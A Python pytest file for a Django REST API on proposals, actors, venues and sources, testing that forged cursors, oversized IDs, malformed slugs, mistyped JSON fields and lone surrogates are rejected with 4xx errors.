def _cursor(raw: str) -> str:
    import base64

    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


def test_a_forged_cursor_with_an_id_beyond_64_bits_is_400(api, proposal):
    assert_problem(api.get(PROPOSALS, {"cursor": _cursor(f"2020-01-01T00:00:00+00:00|{TOO_BIG}")}), 400, "cursor")


@pytest.mark.parametrize(
    "raw",
    [
        f"2020-01-01T00:00:00+00:00|-{TOO_BIG}",
        "2020-01-01T00:00:00+00:00|" + "9" * 1_000,
        "2020-01-01T00:00:00+00:00|0",
        "2020-01-01T00:00:00+00:00|-1",
        "9999-12-31T23:59:59-05:00|1",
        "0001-01-01T00:00:00+05:00|1",
        "2020-01-01T00:00:00+00:00|1|2",
        "2020-01-01T00:00:00+00:00|\x00",
        "2020-01-01|1",
        "|",
    ],
)
def test_forged_cursors_are_400(api, proposal, raw):
    assert_problem(api.get(PROPOSALS, {"cursor": _cursor(raw)}), 400, "cursor")


def test_a_real_cursor_still_works(api, proposal):
    first = api.get(PROPOSALS, {"cursor": "", "page_size": 1}).json()
    assert [p["slug"] for p in first["results"]] == [proposal.slug]


ID_PARAMETERS = [
    (PROPOSALS, "venue"),
    (PROPOSALS, "proponent"),
    (PROPOSALS, "party"),
    (PROPOSALS, "source"),
    (PROPOSALS, "page"),
    (PROPOSALS, "page_size"),
    (f"{API}/venues/", "organisation"),
    (f"{API}/venues/", "page"),
    (f"{API}/actors/", "page"),
    (f"{API}/actors/", "page_size"),
    (f"{API}/sources/", "page"),
    (f"{API}/topics/", "page_size"),
]


@pytest.mark.parametrize(("url", "param"), ID_PARAMETERS)
def test_hostile_numbers_in_id_and_page_parameters_are_never_a_500(api, proposal, url, param):
    for value in HOSTILE_NUMBERS:
        response = api.get(url, {param: value})
        if response.status_code != 200:
            body = assert_problem(response, response.status_code)
            assert 400 <= body["status"] < 500, (param, value)


@pytest.mark.parametrize("resource", ["actors", "venues", "sources"])
def test_hostile_numbers_as_path_ids_are_404(api, editor_api, proposal, unchanged, resource):
    unchanged()
    for value in [TOO_BIG, f"-{TOO_BIG}", "9" * 1_000, "99999999999999999999"]:
        for suffix in ("", "history/"):
            assert_problem(api.get(f"{API}/{resource}/{value}/{suffix}"), 404)
            assert_problem(editor_api.get(f"{API}/{resource}/{value}/{suffix}"), 404)
        assert_problem(editor_api.patch(f"{API}/{resource}/{value}/", {}, format="json", HTTP_IF_MATCH="*"), 404)
        assert_problem(editor_api.delete(f"{API}/{resource}/{value}/", HTTP_IF_MATCH="*"), 404)


@pytest.mark.parametrize("value", [2**63, -(2**63) - 1, 10**30])
def test_ids_beyond_64_bits_in_bodies_are_400(editor_api, proposal, actor, source, unchanged, value):
    unchanged()
    tag = _tag(editor_api, URL)
    for payload, field in (
        ({"venue": {"id": value}}, "venue.id"),
        ({"parties": [{"id": value}]}, "parties.0.id"),
        ({"proponents": [{"id": value, "role": "proposed"}]}, "proponents.0.id"),
    ):
        assert_problem(editor_api.patch(URL, payload, format="json", HTTP_IF_MATCH=tag), 400, field)
    event = {"status": "adopted", "occurred_on": "2020-01-01", "evidence": value}
    assert_problem(editor_api.post(EVENTS, event, format="json"), 400, "evidence")
    quote = {"source": {"id": source.pk}, "quote": "treaty", "start": value}
    assert_problem(editor_api.post(f"{URL}evidence/", quote, format="json"), 400)
    assert_problem(editor_api.post(f"{URL}evidence/", {"source": {"id": value}, "quote": "x"}, format="json"), 400)
    actor_body = {"slug": "new-actor", "name": "New", "kind": "person", "affiliation": {"id": value}}
    assert_problem(editor_api.post(f"{API}/actors/", actor_body, format="json"), 400, "affiliation.id")


# -- Slugs: lowercase letters, digits, hyphens; JSON strings only -----------

SLUGGED = {
    "topics": {"name": "A topic"},
    "actors": {"name": "An actor", "kind": "person"},
    "venues": {"name": "A venue", "kind": "summit"},
    "sources": {"title": "A source", "text": "Some text."},
    "proposals": {"title": "A proposal"},
}


def test_an_uppercase_slug_is_400(editor_api, db, unchanged):
    unchanged()
    response = editor_api.post(f"{API}/topics/", {"slug": "NC-TEST", "name": "NC test"}, format="json")
    assert_problem(response, 400, "slug")


@pytest.mark.parametrize("resource", sorted(SLUGGED))
@pytest.mark.parametrize("slug", ["NC-TEST", "Mixed-case", "under_score", "-leading", "trailing-", "double--hyphen"])
def test_slugs_must_be_lowercase_words_and_hyphens(editor_api, db, unchanged, resource, slug):
    unchanged()
    response = editor_api.post(f"{API}/{resource}/", {"slug": slug, **SLUGGED[resource]}, format="json")
    assert_problem(response, 400, "slug")


@pytest.mark.parametrize("resource", sorted(SLUGGED))
def test_changing_a_slug_to_uppercase_is_400(editor_api, proposal, actor, venue, source, topic, unchanged, resource):
    key = {"topics": topic.slug, "actors": actor.pk, "venues": venue.pk, "sources": source.pk}.get(
        resource, proposal.slug
    )
    url = f"{API}/{resource}/{key}/"
    tag = _tag(editor_api, url)
    unchanged()
    assert_problem(editor_api.patch(url, {"slug": "UPPER"}, format="json", HTTP_IF_MATCH=tag), 400, "slug")


def test_the_model_refuses_uppercase_slugs_for_admin_and_loader():
    from django.core.exceptions import ValidationError

    from proposals.models import Actor, Source, Topic, Venue

    for model in (Topic, Actor, Venue, Source, Proposal):
        field = model._meta.get_field("slug")
        with pytest.raises(ValidationError):
            field.run_validators("NC-TEST")
        field.run_validators("nc-test-2")


@pytest.mark.parametrize("slug", [123, 1.5, True, ["a"], {"a": 1}])
def test_a_slug_that_is_not_a_string_is_400(editor_api, db, unchanged, slug):
    unchanged()
    response = editor_api.post(f"{API}/topics/", {"slug": slug, "name": "Numbered"}, format="json")
    assert_problem(response, 400, "slug")


#: Every writable string field of every resource, with a valid body around it.
STRING_FIELDS = {
    "topics": (["slug", "name", "description"], {"slug": "t-new", "name": "T"}),
    "actors": (["slug", "name", "description", "country_code"], {"slug": "a-new", "name": "A", "kind": "person"}),
    "venues": (["slug", "name", "place", "note"], {"slug": "v-new", "name": "V", "kind": "summit"}),
    "sources": (
        ["slug", "title", "authors", "outlet", "published_note", "url", "language", "text"],
        {"slug": "s-new", "title": "S", "text": "Body."},
    ),
    "proposals": (["slug", "title", "summary", "proposed_note"], {"slug": "p-new", "title": "P"}),
}


@pytest.mark.parametrize("resource", sorted(STRING_FIELDS))
@pytest.mark.parametrize("value", [123, 0, 1.5, True, False], ids=["int", "zero", "float", "true", "false"])
def test_numbers_and_booleans_for_string_fields_are_400(editor_api, db, unchanged, resource, value):
    unchanged()
    fields, valid = STRING_FIELDS[resource]
    for field in fields:
        response = editor_api.post(f"{API}/{resource}/", {**valid, field: value}, format="json")
        assert_problem(response, 400, field)


@pytest.mark.parametrize("value", [123, True])
def test_numbers_for_string_fields_of_parts_and_references_are_400(editor_api, proposal, source, unchanged, value):
    unchanged()
    assert_problem(
        editor_api.post(EVENTS, {"status": "adopted", "occurred_on": "2020-01-01", "note": value}, format="json"),
        400,
        "note",
    )
    for payload, field in (
        ({"source": {"id": source.pk}, "quote": value}, "quote"),
        ({"source": {"id": source.pk}, "quote": "treaty", "note": value}, "note"),
    ):
        assert_problem(editor_api.post(f"{URL}evidence/", payload, format="json"), 400, field)
    tag = _tag(editor_api, URL)
    for payload, field in (
        ({"topics": [{"slug": value}]}, "topics.0.slug"),
        ({"related": [{"relation": "related", "slug": value}]}, "related.0.slug"),
        ({"title": value}, "title"),
    ):
        assert_problem(editor_api.patch(URL, payload, format="json", HTTP_IF_MATCH=tag), 400, field)


def test_strings_that_look_like_numbers_are_fine(editor_api, db):
    response = editor_api.post(f"{API}/topics/", {"slug": "123", "name": "123"}, format="json")
    assert response.status_code == 201, response.content


# -- Empty filter values mean "no filter" -----------------------------------

#: Every filter of every list endpoint (django-filter's, plus the shared ones).
LIST_FILTERS = {
    PROPOSALS: [
        "status",
        "venue",
        "venue_id",
        "proponent",
        "proponent_id",
        "role",
        "topic",
        "topic_id",
        "party",
        "party_id",
        "party_action",
        "source",
        "source_id",
        "proposed_after",
        "proposed_before",
        "updated_since",
        "q",
        "ordering",
        "page",
        "page_size",
    ],
    f"{API}/actors/": ["kind", "named", "country_code", "slug", "ordering", "page", "page_size"],
    f"{API}/venues/": ["kind", "organisation", "organisation_id", "slug", "ordering", "page", "page_size"],
    f"{API}/sources/": ["language", "published_precision", "slug", "ordering", "page", "page_size"],
    f"{API}/topics/": ["ordering", "page", "page_size"],
}


def test_an_empty_status_filter_means_no_filter(api, proposal):
    response = api.get(f"{PROPOSALS}?status=")
    assert response.status_code == 200, response.content
    assert [p["slug"] for p in response.json()["results"]] == [proposal.slug]


@pytest.mark.parametrize("url", sorted(LIST_FILTERS))
def test_every_filter_left_empty_means_no_filter(api, proposal, url):
    from proposals.api import filters as filter_module
    from proposals.api.views import ActorViewSet, ProposalViewSet, SourceViewSet, VenueViewSet

    everything = api.get(url).json()["results"]
    declared = {
        PROPOSALS: ProposalViewSet,
        f"{API}/actors/": ActorViewSet,
        f"{API}/venues/": VenueViewSet,
        f"{API}/sources/": SourceViewSet,
    }.get(url)
    names = set(LIST_FILTERS[url])
    if declared is not None:  # the catalogue above misses no filter
        assert set(declared.filterset_class.base_filters) <= names, filter_module
    for name in sorted(names):
        response = api.get(f"{url}?{name}=")
        assert response.status_code == 200, (name, response.content)
        assert response.json()["results"] == everything, name
    response = api.get(url + "?" + "&".join(f"{name}=" for name in sorted(names)))
    assert response.status_code == 200, response.content
    assert response.json()["results"] == everything


def test_an_empty_value_beside_a_real_one_is_ignored(api, proposal, venue):
    response = api.get(f"{PROPOSALS}?venue_id=&venue_id={venue.pk}&venue=&status=&status=proposed")
    assert response.status_code == 200, response.content
    assert [p["slug"] for p in response.json()["results"]] == [proposal.slug]
    assert_problem(api.get(f"{PROPOSALS}?status=&status=finished"), 400, "status")


@pytest.mark.parametrize(
    "value", ["9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59.999999-00:01"]
)
def test_a_date_time_filter_beyond_the_calendar_in_utc_is_400(api, proposal, value):
    assert_problem(api.get(PROPOSALS, {"updated_since": value}), 400, "updated_since")


def test_a_date_time_filter_at_the_calendars_edge_in_utc_is_fine(api, proposal):
    assert api.get(PROPOSALS, {"updated_since": "9999-12-31T23:59:59+00:00"}).status_code == 200


@pytest.mark.parametrize("fmt", ["multipart", "form"])
def test_an_empty_form_value_for_a_non_blank_string_is_400_not_ignored(editor_api, source, unchanged, fmt):
    # DRF treats "language=" in a form as absent when the field has a default
    # (Source.language, "en"): a 200 that silently changed nothing.
    url = f"{API}/sources/{source.pk}/"
    tag = _tag(editor_api, url)
    unchanged()
    # Form bodies are refused outright (JSON only); the same empty value in
    # JSON is a 400 naming the field, never a silent no-op.
    if fmt == "form":
        body = urlencode({"language": ""})
        response = editor_api.patch(url, body, content_type="application/x-www-form-urlencoded", HTTP_IF_MATCH=tag)
    else:
        response = editor_api.patch(url, {"language": ""}, format="multipart", HTTP_IF_MATCH=tag)
    assert_problem(response, 415)
    assert_problem(editor_api.patch(url, {"language": ""}, format="json", HTTP_IF_MATCH=tag), 400, "language")


# --------------------------------------------------------------------------
# Found by a hostile review after the merges (issue #15): lone surrogates,
# undecodable tokens, too many parameters, /api without its slash, and
# silent coercion of numbers and booleans in bodies.
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "body"),
    [
        (f"{API}/topics/", '{"slug":"x","name":"n","\\ud800":1}'),
        (f"{API}/actors/", '{"slug":"x","name":"n","kind":"\\ud800"}'),
        (f"{API}/proposals/", '{"slug":"x","title":"t","initial_status":"\\udfff"}'),
    ],
)
def test_a_lone_surrogate_in_json_is_a_400_not_a_500(editor_api, url, body, unchanged):
    unchanged()
    response = editor_api.post(url, body, content_type="application/json")
    assert_problem(response, 400)


def test_a_lone_surrogate_in_a_sub_resource_write_is_a_400(editor_api, proposal):
    body = '{"status":"x\\ud800","occurred_on":"2016-01-01"}'
    response = editor_api.post(f"{API}/proposals/{proposal.slug}/events/", body, content_type="application/json")
    assert_problem(response, 400)


def test_an_authorization_header_that_is_not_utf8_is_a_401(api, db):
    response = api.get(f"{API}/topics/", HTTP_AUTHORIZATION=b"Token \xe9\xe9".decode("latin-1"))
    assert_problem(response, 401)


@pytest.mark.parametrize("debug", [False, True])
def test_too_many_query_parameters_is_a_plain_400(api, db, settings, debug):
    settings.DEBUG = debug
    response = api.get(f"{API}/proposals/?" + "a=1&" * 1001)
    body = assert_problem(response, 400)
    assert "DATA_UPLOAD_MAX_NUMBER_FIELDS" in body["detail"]


@pytest.mark.parametrize("debug", [False, True])
def test_api_without_its_slash_is_a_problem_404_not_html(api, db, settings, debug):
    settings.DEBUG = debug
    assert_problem(api.get("/api"), 404)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("venue", {"id": "1"}),
        ("venue", {"id": 1.0}),
        ("venue", {"id": True}),
        ("proponents", [{"id": "１", "role": "proposed"}]),
        ("proponents", [{"id": 1, "role": "proposed", "primary": "yes"}]),
        ("proponents", [{"id": 1, "role": "proposed", "primary": 1}]),
    ],
)
def test_numbers_and_booleans_in_bodies_must_have_their_json_type(editor_api, proposal, venue, actor, field, value):
    response = write(editor_api, "patch", URL, {field: value})
    assert_problem(response, 400)


def test_named_must_be_a_json_boolean(editor_api, actor):
    response = write(editor_api, "patch", f"{API}/actors/{actor.slug}/", {"named": "yes"})
    assert_problem(response, 400, "named")


@pytest.mark.parametrize("field", ["topics", "parties"])
def test_the_same_topic_or_party_twice_is_refused_like_duplicate_proponents(editor_api, proposal, topic, actor, field):
    value = [{"slug": topic.slug}] * 2 if field == "topics" else [{"id": actor.pk}] * 2
    response = write(editor_api, "patch", URL, {field: value})
    assert_problem(response, 400, field)
